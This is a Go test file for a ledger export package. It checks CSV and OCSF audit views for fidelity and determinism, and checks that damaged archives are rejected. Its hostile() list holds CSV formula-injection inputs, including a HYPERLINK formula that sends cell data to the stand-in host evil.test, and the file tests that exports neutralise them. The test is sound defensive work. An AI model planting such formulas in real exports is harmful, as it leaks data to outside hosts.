package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/stellarun/stella/export"
	"github.com/stellarun/stella/ledger"
)

// view writes a view of an archive and returns its files.
func view(t *testing.T, tar []byte, format string, opt export.VerifyOptions) (map[string][]byte, *export.View, error) {
	t.Helper()
	path, dir := filepath.Join(t.TempDir(), "archive.tar"), filepath.Join(t.TempDir(), "view")
	if err := os.WriteFile(path, tar, 0o600); err != nil {
		t.Fatal(err)
	}
	v, _, err := export.WriteView(context.Background(), path, format, dir, opt)
	left, globErr := os.ReadDir(filepath.Dir(dir))
	if globErr != nil || len(left) > 1 || err != nil && len(left) > 0 {
		t.Errorf("after %v there is %v", err, left)
	}
	files := map[string][]byte{}
	if err != nil {
		return nil, v, err
	}
	for _, f := range v.Files {
		raw, err := os.ReadFile(filepath.Join(dir, f.Path))
		if err != nil {
			t.Fatal(err)
		}
		if digest(raw) != f.SHA256 || int64(len(raw)) != f.Bytes {
			t.Errorf("%s is not what the result says", f.Path)
		}
		files[f.Path] = raw
	}
	return files, v, nil
}

func TestViewsAreGolden(t *testing.T) {
	s := busySite(t)
	tar := s.archive(window(0, 22))
	for _, format := range []string{export.ViewCSV, export.ViewOCSF} {
		files, v, err := view(t, tar, format, s.auditor())
		if err != nil || v.Verdict != export.Verified {
			t.Fatalf("%s: %v, %v", format, v, err)
		}
		again, _, err := view(t, tar, format, export.VerifyOptions{}) // whatever the keys
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(files, again); diff != "" {
			t.Errorf("%s: not the same bytes again:\n%s", format, diff)
		}
		for name, raw := range files {
			golden := filepath.Join("testdata", "view", name)
			if name == "README.txt" {
				golden = filepath.Join("testdata", "view", format+".txt")
			}
			if os.Getenv("UPDATE_GOLDEN") != "" {
				if err := os.WriteFile(golden, raw, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), string(raw)); diff != "" {
				t.Errorf("%s (-want +got), UPDATE_GOLDEN=1 writes it:\n%s", golden, diff)
			}
		}
	}
}

// hostile are texts that somebody chose whom nobody can stop.
func hostile() []string {
	return []string{
		`=HYPERLINK("http://evil.test?"&A1,"x")`, "+1", "-1+1", "@SUM(A1)", "'quoted", "=1", "＝1", `a"b,c`, "a\r\nb", "\t=1", "\r=1", " =1", "\x1b[31mred",
		"abc\u202ecba", "\u200b=1", "\ufeff=1", ";=1", "a;=1", `","=1`, "\u2028=1", "ok",
	}
}

// What csv reads of a table is what is in the ledger, and no cell begins with what
// spreadsheets take for a formula. Each record is one line.
func TestTablesHoldHostileCells(t *testing.T) {
	s := newSite(t)
	for i, text := range hostile() {
		s.add(ledger.Envelope{Type: ledger.SiteStopped, Actor: "system:" + text}, &ledger.SiteStop{Reason: text})
		id := fmt.Sprintf("0190b0a0-0000-7000-8000-%012d", i)
		s.startRun(id)
		s.startAttempt(id, 1)
		s.add(s.step(ledger.AttemptEnded, id, "match", 1), &ledger.AttemptEnd{Generation: 1, Outcome: "failed", Message: text})
		s.add(s.step(ledger.StepFailed, id, "match", 0), &ledger.StepEnd{ErrorCode: "X", Reason: text})
		s.add(s.run(ledger.RunFailed, id), &ledger.RunEnd{FailureReason: "X", Message: text})
	}
	s.add(ledger.Envelope{Type: ledger.SiteStopped, Actor: "x"}, &ledger.SiteStop{})
	s.checkpoint()
	files, _, err := view(t, s.archive(window(0, len(s.entries)-1)), export.ViewCSV, s.auditor())
	if err != nil {
		t.Fatal(err)
	}
	column := map[string]string{"entries.csv": "actor", "runs.csv": "message", "steps.csv": "reason", "attempts.csv": "message"}
	for name, col := range column {
		rows := readTable(t, name, files[name])
		var got []string
		at := slices.Index(rows[0], col)
		for _, row := range rows[1:] {
			for i, c := range row {
				if strings.ContainsAny(c[:min(1, len(c))], "=+-@\t\r") || strings.ContainsAny(c, "\r\n\x1b\u202e\u200b\ufeff") {
					t.Errorf("%s: %s is %q", name, rows[0][i], c)
				}
			}
			text := row[at]
			if name == "entries.csv" {
				if row[slices.Index(rows[0], "type")] != "site.stopped" {
					continue
				}
				text = strings.TrimPrefix(text, "system:")
			} else {
				text = strings.TrimPrefix(text, "'")
			}
			got = append(got, text)
		}
		if diff := cmp.Diff(shown(hostile()), got); diff != "" {
			t.Errorf("%s (-ledger +table):\n%s", name, diff)
		}
	}
}

// shown is how hidden characters are written.
func shown(texts []string) []string {
	hidden := regexp.MustCompile("[\x00-\x1f\u200b\u2028\u202e\ufeff]")
	var out []string
	for _, s := range texts {
		out = append(out, hidden.ReplaceAllStringFunc(s, func(c string) string { return fmt.Sprintf(`\u%04x`, []rune(c)[0]) }))
	}
	return out
}

// readTable reads a table as RFC 4180 says, and holds it to a record a line.
func readTable(t *testing.T, name string, raw []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	if lines := bytes.Count(raw, []byte("\r\n")); lines != len(rows) || bytes.Count(raw, []byte("\n")) != lines || bytes.Count(raw, []byte("\r")) != lines {
		t.Errorf("%s: %d records in %d lines", name, len(rows), lines)
	}
	return rows
}

// The exact data of an entry comes out of its table again.
func TestTablesHoldTheLedger(t *testing.T) {
	s := busySite(t)
	files, _, err := view(t, s.archive(window(0, 22)), export.ViewCSV, s.auditor())
	if err != nil {
		t.Fatal(err)
	}
	rows := readTable(t, "entries.csv", files["entries.csv"])
	data := slices.Index(rows[0], "data")
	for i, row := range rows[1:] {
		line, err := ledger.ParseData(s.entries[i].Data)
		if err != nil {
			t.Fatal(err)
		}
		env, err := ledger.ParseEnvelope(s.entries[i].Envelope)
		if err != nil {
			t.Fatal(err)
		}
		if row[data] != string(line.Data) || row[0] != strconv.Itoa(i) || row[12] != env.DataHash || row[2] != string(env.Type) {
			t.Errorf("entry %d is %q", i, row)
		}
	}
	if n := len(readTable(t, "attempts.csv", files["attempts.csv"])); n != 4 {
		t.Errorf("attempts.csv has %d lines, want names and 3 attempts", n)
	}
}

// Events are what OCSF 1.8.0 demands of their classes.
func TestEventsAreOCSF(t *testing.T) {
	s := busySite(t)
	s.add(ledger.Envelope{Type: ledger.SiteStarted, Actor: "system:engine"}, &ledger.SiteStart{Stella: "1", BinarySHA256: "b"})
	s.add(ledger.Envelope{Type: ledger.SecretSet, Actor: "token:ci", Tenant: "default"}, &ledger.SecretChange{Name: "db", Version: 1, File: "f"})
	s.add(ledger.Envelope{Type: ledger.SiteStopped, Actor: "cert:ops"}, &ledger.SiteStop{})
	s.add(ledger.Envelope{Type: ledger.SiteStopped, Actor: "cert:ops"}, &ledger.SiteStop{})
	s.checkpoint()
	files, _, err := view(t, s.archive(window(0, len(s.entries)-1)), export.ViewOCSF, s.auditor())
	if err != nil {
		t.Fatal(err)
	}
	activities := map[float64]map[float64]string{
		6002: {1: "Install", 2: "Remove", 3: "Start", 4: "Stop", 5: "Restart", 6: "Enable", 7: "Disable", 8: "Update"},
		6003: {1: "Create", 2: "Read", 3: "Update", 4: "Delete"},
	}
	demanded := map[float64][]string{6002: {"app.name"}, 6003: {"api.operation", "src_endpoint.uid"}}
	failures := 0
	for i, line := range strings.Split(strings.TrimSuffix(string(files["events.ndjson"]), "\n"), "\n") {
		var e map[string]any
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatal(err)
		}
		class, activity := e["class_uid"].(float64), e["activity_id"].(float64)
		name := activities[class][activity]
		env, err := ledger.ParseEnvelope(s.entries[i].Envelope)
		if err != nil {
			t.Fatal(err)
		}
		at := env.Time
		switch {
		case name == "" || e["activity_name"] != name || e["type_uid"] != class*100+activity || e["category_uid"] != 6.0:
			t.Errorf("%s: class %v, activity %v %v, type %v", env.Type, class, activity, e["activity_name"], e["type_uid"])
		case field(e, "metadata.version") != "1.8.0" || field(e, "metadata.product.name") != "stella" || field(e, "metadata.original_time") != at:
			t.Errorf("%s: metadata %v", env.Type, e["metadata"])
		case field(e, "metadata.sequence") != float64(i) || field(e, "unmapped.seq") != float64(i) || field(e, "unmapped.dataHash") != env.DataHash:
			t.Errorf("%s: it is not tied to entry %d", env.Type, i)
		case field(e, "actor.user.uid") == nil && field(e, "actor.app_name") == nil:
			t.Errorf("%s: nobody did it: %v", env.Type, e["actor"])
		}
		for _, path := range demanded[class] {
			if field(e, path) == nil {
				t.Errorf("%s: %s is missing", env.Type, path)
			}
		}
		if e["status_id"] == 2.0 {
			failures++
		}
	}
	if failures != 2 { // a bundle that was refused, an attempt that failed
		t.Errorf("%d failures, want 2", failures)
	}
}

// field looks into an object.
func field(v any, path string) any {
	for _, key := range strings.Split(path, ".") {
		m, _ := v.(map[string]any)
		v = m[key]
	}
	return v
}

// Of an archive that does not hold, or is by other keys, there is no view; what is
// withheld is left out, and said.
func TestViewsOfArchivesThatDoNotHold(t *testing.T) {
	s := busySite(t)
	tar := s.archive(window(0, 22))
	bad := bytes.Clone(tar)
	bad[len(bad)/2] ^= 1
	other := s.auditor()
	other.SiteKey = publicPEM(t, &p256(t, 12).PublicKey)
	for what, c := range map[string]struct {
		tar []byte
		opt export.VerifyOptions
	}{"damaged": {bad, s.auditor()}, "another's": {tar, other}, "no archive": {[]byte("x"), s.auditor()}} {
		if _, _, err := view(t, c.tar, export.ViewCSV, c.opt); !errors.Is(err, export.ErrNoView) {
			t.Errorf("%s: %v", what, err)
		}
	}
	s.entries[8].Data, s.entries[8].Withheld = nil, "court-order"
	files, v, err := view(t, s.archive(window(0, 22)), export.ViewCSV, s.auditor())
	if err != nil || v.LeftOut != 1 || v.Verdict != export.Incomplete {
		t.Fatalf("withheld: %+v, %v", v, err)
	}
	if !strings.Contains(string(files["README.txt"]), "left out       1 runs") || !strings.Contains(string(files["entries.csv"]), "court-order") {
		t.Errorf("what is withheld is not said:\n%s", files["README.txt"])
	}
}
